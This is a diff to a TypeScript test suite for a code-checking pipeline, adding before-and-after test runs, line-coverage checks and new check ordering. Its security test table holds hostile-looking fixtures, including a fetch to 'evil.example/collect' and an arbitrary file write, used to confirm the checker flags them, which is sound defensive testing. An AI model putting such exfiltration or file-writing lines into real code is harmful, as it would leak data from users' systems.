@@ -10,14 +10,14 @@ import { tests } from '../../../lambdas/validation/checks/tests.ts';
 import type { SourceFile } from '../../../lambdas/shared/contract/records.ts';
 import type { TestRun } from '../../../lambdas/shared/source/tools.ts';
 
-const GREEN: TestRun = { passed: 3, failed: 0, coverage: 0.9, lines: {}, output: '' };
-const tools = (run: TestRun | { none: string } = GREEN): Tools & { runs: number } => {
+const GREEN: TestRun = { passed: 3, failed: 0, coverage: 0.9, lines: { 'lib.js': { ran: [1, 2, 3, 4, 5], missed: [] } }, output: '' };
+const tools = (run: TestRun | { none: string } = GREEN, base: TestRun | { none: string } = GREEN): Tools & { runs: number } => {
   const made = {
     runs: 0,
     runner: {
-      async run() {
+      async run(files: readonly SourceFile[]) {
         made.runs += 1;
-        return run;
+        return files === BASE ? base : run;
       },
     },
     types: { check: async () => [] },
@@ -97,7 +97,7 @@ describe('security', () => {
     ['powerful-module', "export const a = process.getBuiltinModule('fs');"],
     ['computed-import', 'export const a = (x) => import(x);'],
     ['computed-import', 'export const a = (x) => require(x);'],
-    ['file-system', "import fs from 'node:fs/promises';"],
+    ['file-system', "import fs from 'node:fs/promises';\nexport const a = (x) => fs.writeFile(x, '');"],
     ['network-module', "import https from 'https';"],
     ['network-module', "export const a = new WebSocket('wss://known.example');"],
     ['network-host', "export const a = () => fetch('https://evil.example/collect');"],
@@ -202,17 +202,41 @@ describe('types', () => {
 });
 
 describe('tests', () => {
+  const red = { ...GREEN, failed: 1 };
   test.each([
-    [GREEN, 'pass', undefined],
-    [{ ...GREEN, failed: 1 }, 'fail', 'tests'],
-    [{ ...GREEN, passed: 0 }, 'fail', 'tests'],
-    [{ ...GREEN, coverage: 0.8 }, 'fail', 'coverage'],
-    [{ ...GREEN, coverage: 0.801 }, 'pass', undefined],
-    [{ none: 'the target has no tests' }, 'fail', 'no-tests'],
-  ])('%j is a %s', async (run, status, rule) => {
-    const result = await tests.run(change('lib.js', ''), tools(run));
+    [GREEN, GREEN, 'pass', undefined],
+    [red, GREEN, 'fail', 'tests'],
+    [{ ...GREEN, passed: 0 }, GREEN, 'fail', 'tests'],
+    [{ ...GREEN, passed: 2 }, GREEN, 'fail', 'tests'],
+    [red, red, 'fail', 'tests-fail-before'],
+    [GREEN, red, 'fail', 'tests-fail-before'],
+    [{ none: 'the target has no tests' }, GREEN, 'fail', 'no-tests'],
+    [GREEN, { none: 'the target has no tests' }, 'fail', 'no-tests'],
+  ])('%j after %j is a %s', async (run, base, status, rule) => {
+    const result = await tests.run(change('lib.js', ''), tools(run, base));
     expect(result.status).toBe(status);
     expect(result.findings[0]?.rule).toBe(rule);
+  });
+
+  const five = ['export const a = (x) => {', '  const y = x + 1;', '  const z = y + 1;', '  return z;', '};', ''].join('\n');
+  test.each([
+    [[1, 2, 3, 4, 5], [], 'pass'],
+    // Of the four lines that can run, the closing one is none, three are 75 %.
+    [[1, 2, 3, 5], [4], 'fail'],
+    [[], [1, 2, 3, 4, 5], 'fail'],
+  ])('lines %j of what the change touches ran, and %j did not: %s', async (ran, missed, status) => {
+    const result = await tests.run(change('lib.js', five), tools({ ...GREEN, lines: { 'lib.js': { ran, missed } } }));
+    expect(result.status).toBe(status);
+    expect(result.findings.map(({ rule, line }) => [rule, line])).toEqual(
+      missed.filter((line) => line < 5).map((line) => ['coverage', line]),
+    );
+  });
+
+  test('a new source that no test loads was missed', async () => {
+    expect(await tests.run(change('more.js', five), tools())).toMatchObject({
+      status: 'fail',
+      findings: [{ file: 'more.js', line: 1 }, {}, {}, {}],
+    });
   });
 
   test('names the failing tests and keeps nothing else that was printed', async () => {
@@ -249,13 +273,18 @@ test('a good change passes every check, a configuration has none to pass', async
   const made = tools();
   const results = await runChecks(change('lib.js', 'export const a = (x) => x + 1;\n'), made);
   expect(results.map((result) => [result.check, result.status])).toEqual([
+    ['paths', 'pass'],
     ['syntax', 'pass'],
+    ['size', 'pass'],
+    ['kept-tests', 'pass'],
     ['imports', 'pass'],
-    ['types', 'not-applicable'],
-    ['security', 'pass'],
+    ['names', 'pass'],
+    ['contract', 'pass'],
     ['complexity', 'pass'],
+    ['security', 'pass'],
+    ['types', 'not-applicable'],
     ['tests', 'pass'],
   ]);
-  expect(made.runs).toBe(1);
+  expect(made.runs).toBe(2);
   expect(configurationResults().map((result) => result.status)).toEqual(CHECKS.map(() => 'not-applicable'));
 });
